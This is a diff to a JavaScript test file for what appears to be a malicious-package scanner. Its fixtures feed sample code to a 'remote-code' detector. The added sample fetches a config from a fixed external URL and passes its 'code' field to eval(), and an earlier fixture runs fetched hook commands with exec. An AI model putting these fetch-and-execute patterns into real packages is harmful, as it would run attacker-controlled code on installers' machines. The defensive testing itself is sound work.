@@ -851,6 +851,9 @@ if (process.platform === 'win32') setInterval(() => { poll().catch(() => {}); },
     const hook = scan({ 'index.js': "const https = require('https');\nconst { exec } = require('child_process');\nasync function runHook(src) { return new Promise((ok) => exec(src.hook, { cwd: src.dir }, ok)); }\nfunction previous(done) { https.get('https://deploy.cloud-api.io/map', (res) => { let src = ''; res.on('data', (c) => { src += c; }); res.on('end', () => done(JSON.parse(src))); }); }\nmodule.exports = { runHook, previous };\n" }, { main: 'index.js' });
     // Run like an installer's fetched program (15, the context halved), not like evaluated text (45).
     expect(hook.findings.filter((f) => f.detector === 'remote-code').every((f) => f.weight < 30)).toBe(true);
+    // The same helper handed a fixed address by its caller is a channel again (ts-vitest's getJson(CONFIG_URL)).
+    const named = scan({ 'index.js': "const CONFIG_URL = 'https://ts-compat.vercel.app/config.json';\nasync function getJson(url) { const res = await fetch(url); return res.json(); }\nasync function main() { const cfg = await getJson(CONFIG_URL); eval(cfg.code); }\nmain();\n" }, { main: 'index.js' });
+    expect(named.findings.find((f) => f.detector === 'remote-code')?.data).toMatchObject({ origin: expect.stringContaining('getJson()') });
     // A fetched address opened in the browser: the program is the file's own, the data only its argument.
     const opener = scan({ 'index.js': c2.replace('exec(t.slice(7))', 'exec(`open "${t}"`)') }, { main: 'index.js' });
     expect(opener.level).not.toMatch(/high|critical/);
